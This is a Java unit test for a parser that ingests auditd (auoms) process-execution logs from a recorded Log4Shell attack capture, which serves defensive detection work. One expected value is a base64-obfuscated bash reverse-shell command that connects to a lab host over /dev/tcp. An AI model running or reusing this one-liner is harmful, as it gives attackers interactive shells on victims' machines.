package org.t1573.ingest.linux;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.t1573.ingest.linux.LinuxParsing.LOG4SHELL;
import static org.t1573.ingest.linux.LinuxParsing.iso;
import static org.t1573.ingest.linux.LinuxParsing.only;
import static org.t1573.ingest.linux.LinuxParsing.parse;
import static org.t1573.ingest.linux.LinuxParsing.parseRealFile;
import static org.t1573.ingest.linux.LinuxParsing.pid;

import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.t1573.event.Event;

/** AUOMS_EXECVE rows of the real Log4Shell capture (50 rows, 27 successful execs). */
class AuomsParserTest {

    private static List<Event> events;

    @BeforeAll
    static void parseCapture() throws Exception {
        events = parseRealFile(new AuomsParser(), LOG4SHELL, "syslog_auoms_auditd");
    }

    @Test
    void everySuccessfulExecIsAProcessStartAndFailedOnesGiveNothing() {
        assertThat(events).hasSize(27).allSatisfy(e -> {
            assertThat(e.action).isEqualTo("process_start");
            assertThat(e.dataset).isEqualTo("auoms");
            assertThat(e.hostName).isEqualTo("UBUNTU5");
        });
        assertThat(events).extracting(e -> e.processExecutable)
                .doesNotContain("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java");
    }

    @Test
    void reverseShellLauncherKeepsItsQuotedCommandLine() {
        Event e = only(events, pid(17790));

        assertThat(e.id).isEqualTo("UBUNTU5:1652292621.990:84143");
        assertThat(e.code).isEqualTo("execve");
        assertThat(e.provider).isEqualTo("auoms");
        assertThat(e.category).isEqualTo("process");
        assertThat(e.timestamp).isEqualTo(iso("2022-05-11T18:10:21.990Z"));
        assertThat(e.created).isEqualTo(iso("2022-05-11T18:10:22.007Z"));
        assertThat(e.hostIp).isEqualTo("192.168.2.5");
        assertThat(e.parentPid).isEqualTo(1340L);
        assertThat(e.userName).isEqualTo("tomcat");
        assertThat(e.processExecutable).isEqualTo("/bin/bash");
        assertThat(e.processName).isEqualTo("bash");
        assertThat(e.processCommandLine).isEqualTo(
                "bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"");
    }

    @Test
    void interactiveShellOfTheReverseShellIsSeen() {
        Event e = only(events, pid(17806));

        assertThat(e.parentPid).isEqualTo(17794L);
        assertThat(e.processCommandLine).isEqualTo("bash -i");
    }

    @Test
    void proctitleStandsInForAMissingCmdline() throws Exception {
        Event e = only(parse(new AuomsParser(), row("success=yes pid=5 ppid=1 exe=\"/usr/bin/id\""
                + " proctitle=id -u redactors= containerid=")), pid(5));

        assertThat(e.processCommandLine).isEqualTo("id -u");
    }

    @Test
    void otherAuomsRecordTypesGiveNothing() throws Exception {
        String row = "{\"SyslogMessage\":\"type=AUOMS_PROCESS_INVENTORY audit(1652292621.986:1): pid=1\"}";

        assertThat(parse(new AuomsParser(), row)).isEmpty();
    }

    @Test
    void rowWithoutSyslogMessageIsRejected() {
        assertThatThrownBy(() -> parse(new AuomsParser(), "{\"Computer\":\"UBUNTU5\"}"))
                .hasMessageContaining("auoms: field SyslogMessage is missing");
    }

    private static String row(String fields) {
        return "{\"Computer\":\"h\",\"SyslogMessage\":\"type=AUOMS_EXECVE audit(1652292621.986:9): node=h syscall=execve "
                + fields.replace("\"", "\\\"") + "\"}";
    }
}
